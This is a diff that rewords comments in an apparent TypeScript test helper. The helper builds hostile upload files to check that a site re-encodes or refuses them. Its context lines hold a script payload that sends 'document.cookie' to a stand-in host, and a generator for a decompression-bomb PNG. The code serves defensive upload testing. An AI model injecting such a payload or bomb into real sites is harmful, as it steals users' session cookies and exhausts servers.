@@ -6,7 +6,7 @@ import sharp from 'sharp';
 export const mark = 'windfall-hostile-mark';
 const script = `<script>/* ${mark} */fetch('https://example.org/'+document.cookie)</script>`;
 
-/** The words of each reason to refuse a file. */
+/** Matches the message of each reason for which the site refuses a file. */
 const words = {
   kind: /not a photograph or drawing/,
   damaged: /damaged or not complete/,
@@ -17,7 +17,10 @@ const words = {
   large: /larger than 20 MB/,
 };
 
-/** A file, how it is sent, and the result: the site encodes it anew, or refuses it with these words. */
+/**
+ * A file and how it is sent. The site either encodes it anew ('picture'), or refuses it with a message that
+ * matches.
+ */
 export interface HostileFile {
   name: string;
   bytes: Buffer;
@@ -49,7 +52,10 @@ function chunk(name: string, data: Buffer): Buffer {
 
 const pngHead = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
 
-/** Returns a one-bit grey PNG of any size. The file is 1,000 times smaller than its pixels. */
+/**
+ * Returns a grey PNG of one bit for each pixel, of any size. The file is 1,000 times smaller than its
+ * pixels.
+ */
 function flatPng(width: number, height: number, rows = height): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
@@ -64,13 +70,13 @@ function flatPng(width: number, height: number, rows = height): Buffer {
   ]);
 }
 
-/** Returns a PNG with more chunks after its header. */
+/** Returns a PNG with further chunks after its header. */
 function withChunks(png: Buffer, ...chunks: Buffer[]): Buffer {
   const afterHeader = 8 + 25;
   return Buffer.concat([png.subarray(0, afterHeader), ...chunks, png.subarray(afterHeader)]);
 }
 
-/** Returns a JPEG with a segment after its start. */
+/** Returns a JPEG with a further segment after its start. */
 function withSegment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
   const head = Buffer.from([0xff, marker, 0, 0]);
   head.writeUInt16BE(data.length + 2, 2);
@@ -104,9 +110,12 @@ const zip = Buffer.concat([
   Buffer.alloc(18),
 ]);
 
-/** Returns the hostile files, one for each known kind of attack by an upload. All are generated here. */
+/**
+ * Returns the hostile files, at least one for each known kind of attack by an upload. All are generated
+ * here.
+ */
 export async function makeHostileFiles(): Promise<HostileFile[]> {
-  // Hardly larger than the smallest accepted size, because encoding takes most of the time.
+  // The picture is hardly larger than the smallest accepted size, because encoding takes most of the time.
   const jpeg = await noise(96, 64).jpeg().toBuffer();
   const png = await noise(72, 64).png().toBuffer();
   const webp = await noise(72, 64).webp().toBuffer();
